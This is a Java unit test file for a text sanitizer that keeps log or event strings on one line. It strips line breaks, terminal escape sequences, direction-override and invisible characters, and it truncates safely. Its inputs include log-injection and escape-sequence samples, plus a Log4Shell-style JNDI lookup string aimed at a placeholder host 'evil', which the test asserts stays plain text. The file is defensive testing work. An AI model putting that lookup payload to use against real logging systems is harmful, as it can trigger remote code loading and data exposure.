package io.sallyport.event;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

final class OneLineTest {

    @Test
    void aTextThatIsFineStaysAsItIs() {
        assertThat(OneLine.of("Zoë's \"key\" 🔑, ключ", 255)).contains("Zoë's \"key\" 🔑, ключ");
    }

    @Test
    void aTextCannotStartANewLine() {
        assertThat(OneLine.of("a\r\nb\nc\u0085d\u2028e\u2029f", 255)).contains("a  b c d e f");
    }

    @Test
    void aTextCannotDriveATerminal() {
        assertThat(OneLine.of("\u001b[31mred\u009b0m\u0007\u0000\u007f.", 255)).contains("[31mred 0m   .");
    }

    @Test
    void aTextCannotTurnTheReadingDirectionOrHideCharacters() {
        assertThat(OneLine.of("a\u202eb\u2066c\u200bd\ufeffe", 255)).contains("a b c d e");
    }

    @Test
    void aHalfCharacterIsNotKept() {
        assertThat(OneLine.of("a\ud83db\udd11c", 255)).contains("a b c");
    }

    @Test
    void aLookupIsJustText() {
        assertThat(OneLine.of("${jndi:ldap://evil/x} ${env:HOME}", 255)).contains("${jndi:ldap://evil/x} ${env:HOME}");
    }

    @Test
    void aLongTextIsCut() {
        assertThat(OneLine.of("x".repeat(10_240), 255).orElseThrow()).hasSize(255);
    }

    @Test
    void theCutIsNotThroughACharacter() {
        assertThat(OneLine.of("x".repeat(254) + "🔑", 255)).contains("x".repeat(254));
        assertThat(OneLine.of("x".repeat(253) + "🔑", 255)).contains("x".repeat(253) + "🔑");
    }

    @ParameterizedTest
    @ValueSource(strings = {"", " ", "\r\n\t", "\u2028"})
    void aTextWithNothingToSeeIsNone(String text) {
        assertThat(OneLine.of(text, 255)).isEmpty();
    }

    @Test
    void noTextIsNone() {
        assertThat(OneLine.of(null, 255)).isEmpty();
    }
}
